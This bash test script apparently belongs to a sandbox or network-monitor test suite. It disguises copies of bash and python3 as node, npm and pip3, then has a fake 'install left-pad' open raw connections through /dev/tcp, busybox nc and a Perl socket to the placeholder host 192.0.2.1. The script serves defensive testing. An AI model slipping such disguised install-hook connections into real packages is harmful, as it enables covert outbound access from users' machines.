#!/usr/bin/env bash
# The same by a renamed interpreter and by the shell itself, and below something that was started as npm and pip are; both
# are copies of bash.
# shellcheck disable=SC2016 # other shells are to expand it
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts_and_network
own_folder /var/log
command -v dpkg-deb >/dev/null || fail "needs dpkg"
python3 "$peer" hello 192.0.2.1 "$work/port" 4 &
wait_for "$work/port"
port=$(<"$work/port")
cp "$(readlink -f /usr/bin/python3)" "$work/helper"
cp "$(readlink -f /bin/bash)" "$work/node"
ln "$work/node" "$work/python3"
echo 'sh -c "$FETCH"; :' | tee "$work/npm" >"$work/pip3"

package "$work/image" "$work/helper -I $peer call 192.0.2.1 $port >/dev/null; bash -c 'exec 3<>/dev/tcp/192.0.2.1/$port'"
FETCH="busybox nc 192.0.2.1 $port </dev/null; :" "$work/node" "$work/npm" install left-pad | says hello || fail "nothing by npm"
FETCH="perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(q(192.0.2.1:$port))->getline'; :" \
    "$work/python3" "$work/pip3" install left-pad | says hello || fail "nothing by pip"
wait
